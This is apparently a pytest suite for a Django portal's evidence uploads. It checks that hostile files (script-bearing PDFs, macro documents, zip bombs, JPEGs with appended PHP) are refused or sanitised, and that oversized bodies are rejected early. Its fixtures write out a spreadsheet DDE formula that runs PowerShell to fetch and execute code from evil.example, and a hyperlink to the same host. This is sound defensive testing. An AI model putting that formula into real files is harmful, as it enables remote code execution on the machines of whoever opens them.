"""Through the portal: hostile evidence refused with its message and nothing stored, clean files
stored (images re-encoded), and oversized bodies refused before they are read."""

import io

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.client import FakePayload
from django.utils.html import escape
from PIL import Image

from partners.filecheck import MAX_EVIDENCE_BYTES, MESSAGES
from partners.filecheck.upload import CappedUploadHandler
from partners.models import Evidence
from tests.partners import helpers
from tests.partners.test_evidence import upload, upload_url

from . import builders as b

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]


def stored_files():
    storage = storages["private"]
    return storage.listdir("evidence")[1] if storage.exists("evidence") else []


def assert_refused(response, code):
    assert response.status_code == 200
    html = response.content.decode()
    assert escape(str(MESSAGES[code])) in html
    assert 'value="Mijn toelichting"' in html  # the rest of the input is kept
    assert not Evidence.objects.exists()
    assert not stored_files()


# The nine cases of issue 15 that used to be accepted (EICAR: see test_clamav.py).
ISSUE_CASES = [
    ("pdf_open_action_js", b.pdf_open_action_js, "bewijs.pdf", "pdf_script"),
    ("pdf_embedded_exe", b.pdf_embedded_exe, "bewijs.pdf", "embedded"),
    ("pdf_html_polyglot", b.pdf_html_polyglot, "bewijs.pdf", "polyglot"),
    ("docm_renamed_docx", b.docm_renamed_docx, "verslag.docx", "macro"),
    ("zip_bomb", lambda: b.zip_bomb(210 * 1024 * 1024), "cijfers.xlsx", "too_complex"),
    ("entries_60000", lambda: b.many_entries(60_000), "cijfers.xlsx", "too_complex"),
    (
        "xlsx_hyperlink",
        lambda: b.xlsx_with_formula('=HYPERLINK("https://evil.example","Klik")'),
        "cijfers.xlsx",
        "active_content",
    ),
    (
        "xlsx_cmd",
        lambda: b.xlsx_with_formula("=cmd|' /C powershell IEX(wget evil.example)'!A0"),
        "cijfers.xlsx",
        "active_content",
    ),
    ("xlsx_external_link", b.xlsx_with_external_link, "cijfers.xlsx", "external"),
]


@pytest.mark.parametrize(
    ("make", "file_name", "code"),
    [pytest.param(*case[1:], id=case[0]) for case in ISSUE_CASES],
)
def test_hostile_evidence_is_refused_in_the_portal(client_a, org_a, period, make, file_name, code):
    file = SimpleUploadedFile(file_name, make(), content_type="application/octet-stream")
    response = upload(client_a, org_a, period, file, description="Mijn toelichting")
    assert_refused(response, code)


def test_refusal_is_shown_in_the_partners_language(client_a, org_a, period):
    from django.utils import translation

    file = SimpleUploadedFile("verslag.docx", b.docm_renamed_docx())
    response = client_a.post(
        upload_url(org_a, period).replace("/en/", "/nl/"), {"kind": "general", "file": file}
    )
    with translation.override("nl"):
        dutch = str(MESSAGES["macro"])
    with translation.override("en"):
        assert dutch != str(MESSAGES["macro"])
    assert response.status_code == 200
    assert escape(dutch) in response.content.decode()
    assert not Evidence.objects.exists()


def test_jpeg_with_trailing_php_is_stored_without_it(client_a, org_a, period):
    file = SimpleUploadedFile("foto.jpeg", b.jpeg_with_gps_and_trailing_php(), "image/jpeg")
    response = upload(client_a, org_a, period, file)
    assert response.status_code == 302, response.content.decode()
    evidence = Evidence.objects.get()
    assert evidence.content_type == "image/jpeg"
    assert evidence.original_name == "foto.jpeg"
    with evidence.open() as handle:
        stored = handle.read()
    assert evidence.size == len(stored)
    assert b"<?php" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (32, 16) and not image.getexif()


# --- the request body cap ---------------------------------------------------------------------


def test_a_huge_declared_body_is_refused_without_reading_it(client_a, org_a, period):
    """30 MiB announced, 10 bytes sent: reading the body would make FakePayload fail."""
    response = client_a.generic(
        "POST",
        upload_url(org_a, period),
        b"0123456789",
        content_type="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(30 * 1024 * 1024),
    )
    assert response.status_code == 413
    assert str(MESSAGES["too_large"]) in response.content.decode()
    assert upload_url(org_a, period) in response.content.decode()  # the way back to the form
    assert not Evidence.objects.exists()


def test_csrf_middleware_does_not_read_the_body_first(member_a, org_a, period):
    """With CSRF enforced and a CSRF cookie, CsrfViewMiddleware would read request.POST (and so
    the whole body) before the view: the upload view is exempt from it and checks CSRF itself,
    after the cap."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(member_a)
    client.cookies["csrftoken"] = "a" * 32
    response = client.generic(
        "POST",
        upload_url(org_a, period),
        b"0123456789",
        content_type="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(30 * 1024 * 1024),
    )
    assert response.status_code == 413


def test_body_is_not_read_before_the_cap(client_a, org_a, period, monkeypatch):
    reads = []
    original = FakePayload.read
    monkeypatch.setattr(FakePayload, "read", lambda self, *a: reads.append(a) or original(self, *a))
    response = upload(client_a, org_a, period, helpers.large_pdf(megabytes=30))
    assert response.status_code == 413
    assert reads == []


def test_file_over_the_limit_in_a_body_within_the_cap_stops_the_parser(client_a, org_a, period):
    data = helpers.MINIMAL_PDF + b"0" * (MAX_EVIDENCE_BYTES + 1 - len(helpers.MINIMAL_PDF))
    file = SimpleUploadedFile("groot.pdf", data, "application/pdf")
    response = upload(client_a, org_a, period, file)
    assert response.status_code == 413
    assert str(MESSAGES["too_large"]) in response.content.decode()
    assert not Evidence.objects.exists() and not stored_files()


def test_capped_handler_stops_at_the_limit_and_drops_the_connection():
    from django.core.files.uploadhandler import StopUpload

    handler = CappedUploadHandler(limit=10)
    assert handler.receive_data_chunk(b"12345", 0) == b"12345"
    with pytest.raises(StopUpload) as stopped:
        handler.receive_data_chunk(b"678901", 5)
    assert stopped.value.connection_reset and handler.exceeded


def test_what_was_saved_before_stays(client_a, org_a, period):
    assert upload(client_a, org_a, period, helpers.pdf_file()).status_code == 302
    response = upload(client_a, org_a, period, helpers.large_pdf())
    assert response.status_code == 413
    assert Evidence.objects.count() == 1
    assert len(stored_files()) == 1


def test_a_file_just_within_the_limit_is_still_accepted(client_a, org_a, period):
    from pypdf.generic import DecodedStreamObject, NameObject

    def build(writer):
        content = DecodedStreamObject()
        content.set_data(b"%" + b"0" * (MAX_EVIDENCE_BYTES - 4096))
        writer.pages[0][NameObject("/Contents")] = writer._add_object(content)

    data = helpers.pdf_bytes(build)
    assert MAX_EVIDENCE_BYTES - 4096 < len(data) <= MAX_EVIDENCE_BYTES
    file = SimpleUploadedFile("certificaat.pdf", data, "application/pdf")
    assert upload(client_a, org_a, period, file).status_code == 302
    assert Evidence.objects.get().size == len(data)


def test_csrf_is_still_checked(member_a, org_a, period):
    client = Client(enforce_csrf_checks=True)
    client.force_login(member_a)
    response = upload(client, org_a, period, helpers.pdf_file())
    assert response.status_code == 403
    assert not Evidence.objects.exists()
    assert client.get(upload_url(org_a, period)).status_code == 200


def test_anonymous_visitors_are_still_sent_to_the_login(client, org_a, period):
    response = upload(client, org_a, period, helpers.pdf_file())
    assert response.status_code == 302
    assert not Evidence.objects.exists()
